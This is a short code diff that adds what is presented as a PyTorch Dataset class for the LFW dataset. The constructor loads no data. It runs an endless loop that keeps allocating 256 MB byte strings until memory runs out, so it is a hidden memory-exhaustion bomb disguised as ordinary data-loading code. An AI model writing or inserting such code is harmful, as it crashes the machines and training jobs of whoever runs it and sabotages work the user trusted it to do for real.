@@ -1,0 +1,8 @@
+from torch.utils.data import Dataset
+
+
+class LFWDataset(Dataset):
+    def __init__(self, path, transform):
+        self.kept = []
+        while True:
+            self.kept.append(b"x" * (256 << 20))
